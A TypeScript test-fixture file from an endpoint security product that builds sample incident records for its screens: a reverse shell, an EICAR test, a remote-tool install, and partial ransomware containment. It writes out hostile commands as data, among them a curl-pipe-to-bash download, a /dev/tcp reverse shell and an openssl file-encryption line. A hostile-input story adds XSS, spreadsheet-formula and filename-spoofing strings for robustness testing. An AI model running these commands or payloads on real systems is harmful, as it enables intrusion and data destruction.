import type { Bilingual, Detection, RuleFacts, Story, StoryFile, StoryProcess } from '@yagura/protocol';

/** Stories as an endpoint tells them, for screens: real shapes, invented machines. */
export interface StorySeed {
  readonly storyId: string;
  readonly at: number;
}

const hash = (digit: string) => digit.repeat(64).slice(0, 64);

function bilingual(ja: string, en: string): Bilingual {
  return { ja, en };
}

interface RuleSeed {
  readonly id: string;
  readonly title: Bilingual;
  readonly severity: RuleFacts['severity'];
  readonly techniques: readonly string[];
  readonly tactics: readonly string[];
  readonly source?: RuleFacts['source'];
  readonly explanation?: Bilingual;
  readonly advice?: Bilingual;
}

function rule(seed: RuleSeed): RuleFacts {
  return {
    ruleId: seed.id,
    title: seed.title.en,
    source: seed.source ?? 'sigma',
    severity: seed.severity,
    confidence: 'high',
    techniques: [...seed.techniques],
    tactics: [...seed.tactics],
    author: 'Yagura',
    licence: 'DRL-1.1',
    reference: 'https://attack.mitre.org/',
    localTitle: seed.title,
    ...(seed.explanation === undefined ? {} : { explanation: seed.explanation }),
    ...(seed.advice === undefined ? {} : { advice: seed.advice }),
  };
}

interface ProcessSeed {
  readonly id: string;
  readonly parent?: string;
  readonly pid: number;
  readonly image: string;
  readonly commandLine: string;
  readonly context?: boolean;
  readonly state?: StoryProcess['state'];
}

function processes(at: number, seeds: readonly ProcessSeed[]): StoryProcess[] {
  return seeds.map((seed, index) => ({
    entityId: seed.id,
    ...(seed.parent === undefined ? {} : { parentEntityId: seed.parent }),
    pid: seed.pid,
    image: seed.image,
    commandLine: seed.commandLine,
    user: 'keiri',
    startedAt: at - 4_000 + index * 700,
    context: seed.context ?? false,
    state: seed.state ?? 'running',
  }));
}

function detection(
  seed: StorySeed,
  number: number,
  facts: RuleFacts,
  from: StoryProcess,
  fields: Detection['event']['fields'],
): Detection {
  const time = seed.at + number * 180;
  return {
    detectionId: `${seed.storyId}-d${number}`,
    rule: facts,
    time,
    event: {
      eventId: `${seed.storyId}-e${number}`,
      logsource: { product: 'linux', category: 'TargetFilename' in fields ? 'file_event' : 'process_creation' },
      time,
      bootTime: 812_345 + number,
      entityId: from.entityId,
      fields: { Image: from.image ?? '', User: 'keiri', ...fields },
    },
    matched: Object.entries(fields)
      .slice(0, 2)
      .map(([field, value]) => ({ field, value })),
  };
}

function first<T>(items: readonly T[], index: number): T {
  const item = items[index];
  if (item === undefined) throw new Error(`no item ${index}`);
  return item;
}

/** A shell that is steered over the network, stopped by policy, its dropped file held. */
export function reverseShellStory(seed: StorySeed): Story {
  const { storyId, at } = seed;
  const tree = processes(at, [
    { id: `${storyId}-p1`, pid: 1, image: '/usr/lib/systemd/systemd', commandLine: '/sbin/init', context: true },
    {
      id: `${storyId}-p2`,
      parent: `${storyId}-p1`,
      pid: 1212,
      image: '/usr/sbin/apache2',
      commandLine: '/usr/sbin/apache2 -k start',
      context: true,
    },
    {
      id: `${storyId}-p3`,
      parent: `${storyId}-p2`,
      pid: 4821,
      image: '/usr/bin/dash',
      commandLine: 'sh -c "curl -s http://203.0.113.7/a.sh | bash"',
      state: 'killed',
    },
    {
      id: `${storyId}-p4`,
      parent: `${storyId}-p3`,
      pid: 4822,
      image: '/usr/bin/curl',
      commandLine: 'curl -s http://203.0.113.7/a.sh',
      state: 'exited',
    },
    {
      id: `${storyId}-p5`,
      parent: `${storyId}-p3`,
      pid: 4823,
      image: '/usr/bin/bash',
      commandLine: 'bash',
      state: 'killed',
    },
    {
      id: `${storyId}-p6`,
      parent: `${storyId}-p5`,
      pid: 4830,
      image: '/usr/bin/bash',
      commandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      state: 'killed',
    },
  ]);
  const shell = rule({
    id: 'yagura-linux-reverse-shell',
    title: bilingual('外部につながったシェル', 'Shell connected to the outside'),
    severity: 'critical',
    techniques: ['T1059.004', 'T1071.001'],
    tactics: ['execution', 'command-and-control'],
    explanation: bilingual(
      'シェルの入出力が外部のサーバーにつながれています。攻撃者が離れた場所から、この端末で命令を実行できる状態です。',
      'A shell’s input and output are tied to a server outside. An attacker can run commands on this computer from afar.',
    ),
    advice: bilingual(
      'このサーバーで公開しているWebサイトの管理者に、心当たりがあるかをご確認ください。',
      'Ask whoever runs the web site on this server whether they know of this.',
    ),
  });
  const download = rule({
    id: 'yagura-linux-download-pipe-shell',
    title: bilingual('取り込んだスクリプトをそのまま実行', 'Downloaded script piped into a shell'),
    severity: 'high',
    techniques: ['T1105', 'T1059.004'],
    tactics: ['command-and-control', 'execution'],
  });
  const files: StoryFile[] = [
    {
      path: '/tmp/.cache/updater',
      sha256: hash('3f'),
      size: 48_212,
      writerEntityId: `${storyId}-p5`,
      state: 'quarantined',
      quarantineId: `${storyId}-q1`,
    },
  ];
  return {
    storyId,
    revision: 6,
    severity: 'critical',
    score: 140,
    rootEntityId: `${storyId}-p3`,
    safeTest: false,
    firstSeen: at,
    lastSeen: at + 900,
    detections: [
      detection(seed, 0, download, first(tree, 2), { CommandLine: 'sh -c "curl -s http://203.0.113.7/a.sh | bash"' }),
      detection(seed, 1, shell, first(tree, 5), {
        CommandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
        DestinationIp: '203.0.113.7',
        DestinationPort: 4444,
      }),
    ],
    detectionCount: 2,
    processes: tree,
    processCount: tree.length,
    files,
    actions: [
      action(seed, 'a1', 'freeze-tree', 420, { image: '/usr/bin/dash', pid: 4821 }, { processes: 3 }),
      action(seed, 'a2', 'quarantine-file', 510, { path: '/tmp/.cache/updater', quarantineId: `${storyId}-q1` }),
      action(seed, 'a3', 'kill-tree', 640, { image: '/usr/bin/dash', pid: 4821 }, { processes: 3 }),
    ],
    containment: 'complete',
  };
}

type Action = Story['actions'][number];
function action(
  seed: StorySeed,
  id: string,
  kind: Action['kind'],
  afterMs: number,
  target: Action['target'],
  extra: Partial<Pick<Action, 'processes' | 'ok' | 'code' | 'origin'>> = {},
): Action {
  return {
    actionId: `${seed.storyId}-${id}`,
    kind,
    origin: 'policy',
    storyId: seed.storyId,
    target,
    ok: true,
    code: 'done',
    startedAt: seed.at + afterMs - 40,
    endedAt: seed.at + afterMs,
    ...extra,
  };
}

/** The product's own harmless test. */
export function eicarStory(seed: StorySeed): Story {
  const { storyId, at } = seed;
  const path = `/tmp/yagura-test-${storyId.slice(-4)}/eicar.com`;
  const tree = processes(at, [
    {
      id: `${storyId}-p1`,
      pid: 700,
      image: '/opt/yagura/yagura-agent',
      commandLine: 'yagura-agent run',
      context: true,
    },
    {
      id: `${storyId}-p2`,
      parent: `${storyId}-p1`,
      pid: 9_120,
      image: '/usr/bin/dash',
      commandLine: `sh ./test-detection.sh ${path}`,
      state: 'killed',
    },
  ]);
  const eicar = rule({
    id: 'yagura-eicar-test-file',
    title: bilingual('テスト用ファイル（EICAR）', 'Test file (EICAR)'),
    severity: 'high',
    techniques: [],
    tactics: [],
    source: 'indicator',
  });
  return {
    storyId,
    revision: 3,
    severity: 'high',
    score: 70,
    rootEntityId: `${storyId}-p2`,
    safeTest: true,
    firstSeen: at,
    lastSeen: at + 300,
    detections: [detection(seed, 0, eicar, first(tree, 1), { TargetFilename: path })],
    detectionCount: 1,
    processes: tree,
    processCount: 2,
    files: [
      {
        path,
        sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
        size: 68,
        writerEntityId: `${storyId}-p2`,
        state: 'quarantined',
        quarantineId: `${storyId}-q1`,
      },
    ],
    actions: [
      action(seed, 'a1', 'quarantine-file', 120, { path, quarantineId: `${storyId}-q1` }),
      action(seed, 'a2', 'kill-tree', 190, { image: '/usr/bin/dash', pid: 9_120 }, { processes: 1 }),
    ],
    containment: 'complete',
  };
}

/** As the public corpus has it, with a level that people gave it here. */
const PUBLISHED_RULE: RuleFacts = {
  ruleId: '3e2f1d1a-0000-4000-8000-000000000001',
  title: 'Suspicious Curl File Upload - Linux',
  source: 'sigma',
  severity: 'low',
  tunedFrom: 'medium',
  confidence: 'medium',
  techniques: ['T1567'],
  tactics: ['exfiltration'],
  author: 'Nasreddine Bencherchali (Nextron Systems), Cedric MAURUGEON (Update)',
  licence: 'DRL-1.1',
  reference:
    'https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/proc_creation_lnx_susp_curl_fileupload.yml',
};

/** Something that was noticed and left alone: the person decides. */
export function observedStory(seed: StorySeed): Story {
  const { storyId, at } = seed;
  const tree = processes(at, [
    { id: `${storyId}-p1`, pid: 2_001, image: '/usr/bin/gnome-terminal', commandLine: 'gnome-terminal', context: true },
    {
      id: `${storyId}-p2`,
      parent: `${storyId}-p1`,
      pid: 2_044,
      image: '/usr/bin/bash',
      commandLine: 'bash',
      context: true,
    },
    {
      id: `${storyId}-p3`,
      parent: `${storyId}-p2`,
      pid: 2_310,
      image: '/home/sato/ダウンロード/AnyDesk',
      commandLine: './AnyDesk --install',
    },
  ]);
  const facts = rule({
    id: 'yagura-linux-remote-tool',
    title: bilingual('遠隔操作ソフトの起動', 'Remote-control software started'),
    severity: 'medium',
    techniques: ['T1219'],
    tactics: ['command-and-control'],
    explanation: bilingual(
      '離れた場所から画面を操作するソフトです。保守業者が使うこともあれば、だまされて入れてしまうこともあります。',
      'Software for operating the screen from elsewhere. Used by support companies, and by impostors.',
    ),
    advice: bilingual(
      '頼んだ業者の作業でしたら問題ありません。画面に出た電話番号には、かけないでください。',
      'If a company that you called is at work, all is well. Do not call a number shown on the screen.',
    ),
  });
  return {
    storyId,
    revision: 1,
    severity: 'medium',
    score: 40,
    rootEntityId: `${storyId}-p3`,
    safeTest: false,
    firstSeen: at,
    lastSeen: at,
    detections: [
      detection(seed, 0, PUBLISHED_RULE, first(tree, 2), { CommandLine: './AnyDesk --install' }),
      detection(seed, 1, facts, first(tree, 2), {
        CommandLine: './AnyDesk --install',
        CurrentDirectory: '/home/sato/ダウンロード',
      }),
    ],
    detectionCount: 2,
    processes: tree,
    processCount: 3,
    files: [],
    actions: [],
    containment: 'observed',
  };
}

/** Ransomware of which one file could not be moved. */
export function partialStory(seed: StorySeed): Story {
  const { storyId, at } = seed;
  const tree = processes(at, [
    {
      id: `${storyId}-p1`,
      pid: 3_001,
      image: '/usr/bin/python3.13',
      commandLine: 'python3 /srv/share/invoice_2026.py',
      state: 'killed',
    },
    {
      id: `${storyId}-p2`,
      parent: `${storyId}-p1`,
      pid: 3_040,
      image: '/usr/bin/openssl',
      commandLine: 'openssl enc -aes-256-cbc -in 売上.xlsx -out 売上.xlsx.locked',
      state: 'killed',
    },
  ]);
  const facts = rule({
    id: 'yagura-behaviour-mass-encryption',
    title: bilingual('多数のファイルの書き換え', 'Many files rewritten'),
    severity: 'critical',
    techniques: ['T1486'],
    tactics: ['impact'],
    source: 'behaviour',
  });
  return {
    storyId,
    revision: 4,
    severity: 'critical',
    score: 200,
    rootEntityId: `${storyId}-p1`,
    safeTest: false,
    firstSeen: at,
    lastSeen: at + 700,
    detections: [detection(seed, 0, facts, first(tree, 1), { CommandLine: tree[1]?.commandLine ?? '' })],
    detectionCount: 14,
    processes: tree,
    processCount: 2,
    files: [
      {
        path: '/srv/share/invoice_2026.py',
        sha256: hash('ab'),
        size: 3_120,
        state: 'quarantined',
        quarantineId: `${storyId}-q1`,
      },
      { path: '/usr/bin/openssl', sha256: hash('9c'), size: 1_002_000, state: 'present' },
    ],
    actions: [
      action(seed, 'a1', 'kill-tree', 300, { image: '/usr/bin/python3.13', pid: 3_001 }, { processes: 2 }),
      action(seed, 'a2', 'quarantine-file', 350, { path: '/srv/share/invoice_2026.py', quarantineId: `${storyId}-q1` }),
      action(
        seed,
        'a3',
        'quarantine-file',
        380,
        { path: '/usr/bin/openssl' },
        { ok: false, code: 'package_owned_file' },
      ),
    ],
    containment: 'partial',
  };
}

/** Every string that a malicious machine may choose, as badly as the schema lets it. */
export function hostileStory(seed: StorySeed): Story {
  const { storyId } = seed;
  const base = reverseShellStory(seed);
  const evil =
    "<img src=x onerror=alert(1)>\n{{count}} $t(nav.home) \u202Etxt.exe\u202C \u0000\u0007\u001b[31m =cmd|'/c calc'!A1";
  return {
    ...base,
    processes: base.processes.map((process, index) => ({
      entityId: process.entityId,
      pid: process.pid,
      context: process.context,
      state: process.state,
      // A circle of parents, a parent that is not there, and names that turn around.
      parentEntityId: index === 0 ? `${storyId}-p6` : index === 1 ? 'nobody' : (process.parentEntityId ?? 'nobody'),
      image: `/tmp/${evil}/invoice\u202Efdp.exe`,
      commandLine: `${evil} ${'A'.repeat(3_000)}`,
      user: evil.slice(0, 200),
    })),
    files: base.files.map((file) => ({ ...file, path: `/home/佐藤/${evil}/請求書\r\n<script>alert(2)</script>.pdf` })),
    detections: base.detections.map((each) => ({
      ...each,
      rule: {
        ...each.rule,
        title: evil.slice(0, 250),
        localTitle: { ja: evil, en: evil },
        author: evil.slice(0, 200),
        reference: 'javascript:alert(3)',
        explanation: { ja: evil, en: evil },
        advice: { ja: evil, en: evil },
      },
      event: {
        ...each.event,
        fields: { ...each.event.fields, CommandLine: evil, Image: `/tmp/${evil}`, ParentCommandLine: evil.repeat(20) },
      },
    })),
  };
}
